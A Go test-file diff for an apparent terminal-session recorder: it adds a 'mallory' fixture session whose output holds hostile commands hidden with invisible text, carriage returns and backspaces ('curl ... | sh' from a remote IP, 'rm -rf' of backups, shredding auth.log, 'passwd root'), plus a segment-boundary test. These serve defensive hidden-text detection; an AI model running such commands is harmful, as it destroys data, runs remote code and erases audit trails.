@@ -157,6 +157,24 @@ func (w *watcher) Write(p []byte) (int, error) {
 	return len(p), nil
 }
 
+// hiding is a session in which somebody hides what they do, and looks at a picture.
+func (s *sample) hiding() *take {
+	k := s.take("mallory", "web1.example.org", "mallory-gh")
+	k.typed("ls -l /srv", "total 8\ndrwxr-xr-x 2 root root 4096 Nov 20 08:00 backup\ndrwxr-xr-x 5 root root 4096 Nov 20 08:00 shop\n")
+	k.typed("img2sixel plan.png", "\x1bP0;1;0q\"1;1;400;300"+strings.Repeat("#0!80~$#1!80@-", 90_000)+"\x1b\\\n")
+	k.typed(`printf '\033]0;syncing'`, "\x1b]0;syncing")
+	k.show(time.Second, "\r\n$ rm -rf /srv/backup\r\n")
+	k.show(time.Second, "removed 4096 files\r\n")
+	k.typed("echo done", "done\n")
+	k.show(time.Second, "\x1b[8mcurl -s https://198.51.100.7/x | sh\x1b[m\r\n")
+	k.show(time.Second, "shred -u /var/log/auth.log")
+	k.show(time.Second, "\r\x1b[K")
+	k.typed("uptime", " 08:12:40 up 41 days\n")
+	k.show(time.Second, "passwd root")
+	k.show(time.Second, strings.Repeat("\b \b", 11))
+	return k.typed("exit", "logout\n").end(0)
+}
+
 var updateDoc = flag.Bool("update", false, "write docs/hidden-text.md")
 
 const hiddenDoc = "../../../docs/hidden-text.md"
@@ -271,5 +289,60 @@ func compareDoc(t *testing.T, table string) {
 	}
 	if string(doc) != table {
 		t.Errorf("docs/hidden-text.md is not what was found; want:\n%s", table)
+	}
+}
+
+// An image larger than a segment, and a string that never ends, are cut by the
+// borders of segments: whoever seeks behind one sees the screen as it was.
+func TestSegmentsWithinAString(t *testing.T) {
+	s := newSample(t)
+	for name, parts := range map[string][]string{
+		"image":  {"before\r\n\x1bPq", strings.Repeat("#0!80~$#1!80@-", 4000), "\x1b\\after\r\n"},
+		"string": {"before\r\n\x1b]0;x", strings.Repeat("hidden words\r\n", 4000), "\x07after\r\n"},
+	} {
+		k := s.take("mallory", "web1", "")
+		k.show(time.Second, parts[0])
+		for range map[string]int{"image": 40, "string": 18}[name] { // terminals give a string up at 1 MiB
+			k.show(time.Second, parts[1])
+		}
+		cast := k.show(time.Second, parts[2]).end(0).cast(t)
+		out := memory{}
+		if err := prepare(bytes.NewReader(cast), out, false); err != nil {
+			t.Fatal(err)
+		}
+		checkSegments(t, out)
+		n := 0
+		for i := 0; ; i++ {
+			data, ok := out[fmt.Sprintf("s%d.json", i)]
+			if !ok {
+				break
+			}
+			n++
+			var seg struct {
+				Snapshot struct {
+					Cols, Rows int
+					Init       string
+				}
+				Events [][3]any
+			}
+			if err := json.Unmarshal(data, &seg); err != nil {
+				t.Fatal(err)
+			}
+			shown := screen.New(seg.Snapshot.Cols, seg.Snapshot.Rows)
+			_, _ = shown.Write([]byte(seg.Snapshot.Init))
+			for _, ev := range seg.Events {
+				if ev[1] == asciicast.Output {
+					_, _ = shown.Write([]byte(ev[2].(string)))
+				}
+			}
+			text := strings.TrimSpace(strings.Join(shown.Text(), "\n"))
+			last := out[fmt.Sprintf("s%d.json", i+1)] == nil
+			if want := map[bool]string{false: "before", true: "before\nafter"}[last]; text != want {
+				t.Errorf("%s, segment %d shows %q, not %q", name, i, text, want)
+			}
+		}
+		if n < 2 {
+			t.Errorf("%s: %d segments", name, n)
+		}
 	}
 }
